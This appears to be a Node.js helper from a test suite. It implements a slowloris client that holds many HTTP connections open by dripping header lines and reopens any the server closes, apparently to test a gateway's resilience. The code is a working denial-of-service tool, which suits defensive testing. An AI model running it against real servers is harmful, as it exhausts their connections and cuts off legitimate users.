// A slowloris client, run as its own process so it can raise its open-file limit (see
// slowloris.ts). Each connection sends a request line and Host, then one more header line every
// `dripMs`, never ending the head. A connection the server closes is opened again while the attack
// lasts, as a real attacker would. Prints one JSON line when all connections are first open
// ({"ready":…}) and one with the totals at the end.
import { connect } from 'node:net';

const [host, port, localAddress, connections, seconds, dripMs] = process.argv.slice(2);
const total = Number(connections);
const endAt = Date.now() + Number(seconds) * 1000;
const stats = { opened: 0, failed: 0, closedByServer: 0, peakOpen: 0 };
let open = 0;
let reportedReady = false;

function openOne() {
  if (Date.now() >= endAt) return;
  const socket = connect({ host, port: Number(port), localAddress });
  let connected = false;
  let timer;
  socket.setNoDelay(true);
  socket.on('connect', () => {
    connected = true;
    stats.opened++;
    open++;
    stats.peakOpen = Math.max(stats.peakOpen, open);
    socket.write('GET /api/agents HTTP/1.1\r\nHost: gateway.test\r\nUser-Agent: slowloris\r\n');
    let line = 0;
    timer = setInterval(
      () => socket.write(`X-Slow-${line++}: ${'a'.repeat(8)}\r\n`),
      Number(dripMs),
    );
    if (!reportedReady && stats.opened >= total) {
      reportedReady = true;
      process.stdout.write(`${JSON.stringify({ ready: stats.opened })}\n`);
    }
  });
  socket.on('error', () => undefined);
  socket.on('close', () => {
    clearInterval(timer);
    if (connected) {
      open--;
      if (!socket.closedByUs) stats.closedByServer++;
    } else stats.failed++;
    if (!socket.closedByUs) setImmediate(openOne);
  });
  sockets.add(socket);
}

const sockets = new Set();
// Open in batches so the listen backlog is not the thing under test.
let started = 0;
const ramp = setInterval(() => {
  for (let i = 0; i < 250 && started < total; i++, started++) openOne();
  if (started >= total) clearInterval(ramp);
}, 20);

setTimeout(() => {
  clearInterval(ramp);
  for (const socket of sockets) {
    socket.closedByUs = true;
    socket.destroy();
  }
  if (!reportedReady) process.stdout.write(`${JSON.stringify({ ready: stats.opened })}\n`);
  process.stdout.write(`${JSON.stringify(stats)}\n`);
  setTimeout(() => process.exit(0), 100);
}, Number(seconds) * 1000);
